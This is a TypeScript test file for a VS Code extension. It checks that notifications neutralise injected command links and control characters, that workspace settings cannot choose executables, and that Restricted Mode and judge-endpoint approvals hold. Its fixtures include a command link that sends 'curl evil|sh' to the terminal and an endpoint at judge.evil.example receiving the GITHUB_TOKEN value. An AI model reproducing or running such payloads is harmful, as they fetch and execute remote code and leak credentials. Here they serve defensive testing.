/**
 * What the editor takes from others: a workspace's settings (finding 9: which executables it starts,
 * in Restricted Mode or not) and untrusted text it shows in notifications (finding 7). The host's
 * rules are pure functions and package.json's declarations, checked here without an editor.
 */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describeOutcome } from '../../extension/host/job-outcome';
import { approvalQuestion, parseSavedApprovals } from '../../extension/host/judge-approval-text';
import { requireTrust, userSetting } from '../../extension/host/settings';
import type { RunInfo } from '../../extension/rundir';
import { notificationText, oneLine } from '../../extension/util/plain-text';
import type { BadInputCase } from './harness';

const ROOT = path.resolve(__dirname, '..', '..');
const pkg = () => JSON.parse(fs.readFileSync(path.join(ROOT, 'package.json'), 'utf8'));
const LINK = '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%22%7D)';

const info = (o: Partial<RunInfo>): RunInfo => ({
  format: 'absp-run',
  version: 1,
  id: 'their-run',
  name: 'their-run',
  created: '2026-01-01T00:00:00Z',
  updated: '2026-01-01T00:00:00Z',
  status: 'failed',
  reason: null,
  attempt: 1,
  pid: null,
  mode: 'bipolicy',
  engine: 'ort',
  base_model: 'builtin:sandbox',
  rounds_planned: 2,
  rounds_completed: 1,
  roles: [],
  ...o,
});

export const cases: BadInputCase[] = [
  {
    name: "a run's recorded reason holding a command link and new lines: the notification shows it as text",
    act: () => {
      const outcome = describeOutcome({ title: 'resume', exitCode: 1, signal: null, runs: [{ dir: '/r', info: info({ reason: `engine died\n${LINK}\u202e` }) }], logTail: [] });
      return notificationText(`ABSP: ${outcome.message}`);
    },
    expect: {
      handled: (text) => {
        assert.match(text as string, /engine died \[Fix it\]\u200b\(command:/);
        assert.doesNotMatch(text as string, /\]\(|\n|\u202e/);
      },
    },
  },
  {
    name: 'a folder name or id holding a link and control characters: flattened and bounded',
    act: () => notificationText(`Run ${LINK.repeat(50)}\u0007 completed.`),
    expect: {
      handled: (text) => {
        assert.ok((text as string).length <= 1000);
        assert.doesNotMatch(text as string, /\]\(|\u0007/);
      },
    },
  },
  {
    name: 'oneLine keeps ordinary text as it is',
    act: () => oneLine('Run 2026-01-01-sandbox completed (4 of 4 rounds).'),
    expect: { handled: (t) => assert.equal(t, 'Run 2026-01-01-sandbox completed (4 of 4 rounds).') },
  },
  {
    name: 'a workspace setting naming the Node or Python executable is ignored (user settings only)',
    act: () => {
      const settings = {
        inspect: <T>(key: string) =>
          ({
            nodePath: { defaultValue: '', workspaceValue: './evil/node', workspaceFolderValue: './evil/node' },
            pythonPath: { defaultValue: 'python3', globalValue: '/usr/bin/python3', workspaceValue: './evil/python' },
          })[key] as { defaultValue?: T; globalValue?: T; workspaceValue?: T; workspaceFolderValue?: T } | undefined,
      };
      return { node: userSetting(settings, 'nodePath'), python: userSetting(settings, 'pythonPath') };
    },
    expect: { handled: (r) => assert.deepEqual(r, { node: '', python: '/usr/bin/python3' }) },
  },
  {
    name: 'package.json: executables are machine-scoped, approvals application-scoped, workspace trust declared as limited',
    act: () => {
      const p = pkg();
      const props = p.contributes.configuration.properties;
      return {
        node: props['abspLab.nodePath'].scope,
        python: props['abspLab.pythonPath'].scope,
        approvals: props['abspLab.approvedJudgeEndpoints'].scope,
        trust: p.capabilities?.untrustedWorkspaces?.supported,
      };
    },
    expect: { handled: (r) => assert.deepEqual(r, { node: 'machine', python: 'machine', approvals: 'application', trust: 'limited' }) },
  },
  {
    name: 'package.json: every menu entry that starts a process is hidden in Restricted Mode',
    act: () => {
      const starts = new Set(['abspLab.startRun', 'abspLab.resumeRun', 'abspLab.runCrossplay', 'abspLab.evaluate']);
      const menus = pkg().contributes.menus as Record<string, { command: string; when?: string }[]>;
      const open: string[] = [];
      for (const [where, items] of Object.entries(menus)) {
        for (const it of items) if (starts.has(it.command) && it.when !== 'false' && !/isWorkspaceTrusted/.test(it.when ?? '')) open.push(`${where}: ${it.command}`);
      }
      const palette = new Set(menus.commandPalette.filter((i) => /isWorkspaceTrusted/.test(i.when ?? '')).map((i) => i.command));
      return { open, palette: [...starts].filter((c) => !palette.has(c)) };
    },
    expect: { handled: (r) => assert.deepEqual(r, { open: [], palette: [] }) },
  },
  {
    name: 'Restricted Mode: starting a process is refused with a message that says why, viewing is not affected',
    act: () => requireTrust(false, 'Resume Run'),
    expect: { error: /Resume Run starts a process, which Restricted Mode does not allow; trust this workspace first/ },
  },
  {
    name: 'every command that starts a process checks workspace trust first',
    act: () => {
      const source = fs.readFileSync(path.join(ROOT, 'extension', 'host', 'commands.ts'), 'utf8');
      return ['startRun', 'launchRun', 'resumeRun', 'runCrossplay', 'evaluate'].filter((m) => !new RegExp(`async ${m}\\([^)]*\\): Promise<void> \\{\\n\\s+requireTrust\\(vscode\\.workspace\\.isTrusted`).test(source));
    },
    expect: { handled: (missing) => assert.deepEqual(missing, []) },
  },
  {
    name: "the confirmation for a run's judge endpoint shows its host first, the URL and the key variable",
    act: () => approvalQuestion('their-run\n[x](command:y)', { url: 'https://judge.evil.example/v1', host: 'judge.evil.example', apiKeyEnv: 'GITHUB_TOKEN' }),
    expect: {
      handled: (q) => {
        const { message, detail } = q as { message: string; detail: string };
        assert.equal(message, "Send this run's exchanges to judge.evil.example?");
        assert.match(detail, /sends every exchange it judges to https:\/\/judge\.evil\.example\/v1, with the value of your environment variable GITHUB_TOKEN as the API key/);
        assert.doesNotMatch(detail, /\n/);
      },
    },
  },
  {
    name: 'approvals in settings that are not URLs, or malformed, are ignored',
    act: () => parseSavedApprovals([{ url: 'not a url' }, 'x', null, { url: 'https://ok.example/v1/', apiKeyEnv: 'K' }, { apiKeyEnv: 'K' }]),
    expect: { handled: (r) => assert.deepEqual(r, [{ url: 'https://ok.example/v1', apiKeyEnv: 'K' }]) },
  },
];
